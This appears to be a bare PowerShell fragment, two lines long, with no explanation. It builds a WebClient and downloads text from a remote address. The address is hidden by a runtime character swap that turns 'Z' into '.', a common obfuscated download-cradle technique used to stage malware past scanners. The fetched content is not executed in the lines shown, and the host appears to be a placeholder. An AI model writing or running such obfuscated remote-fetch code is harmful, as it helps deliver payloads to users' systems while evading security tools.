$wc = New-Object System.Net.WebClient
$wc.DownloadString('http://aZexample/p/xZtxt'.Replace([char]90,[char]46))
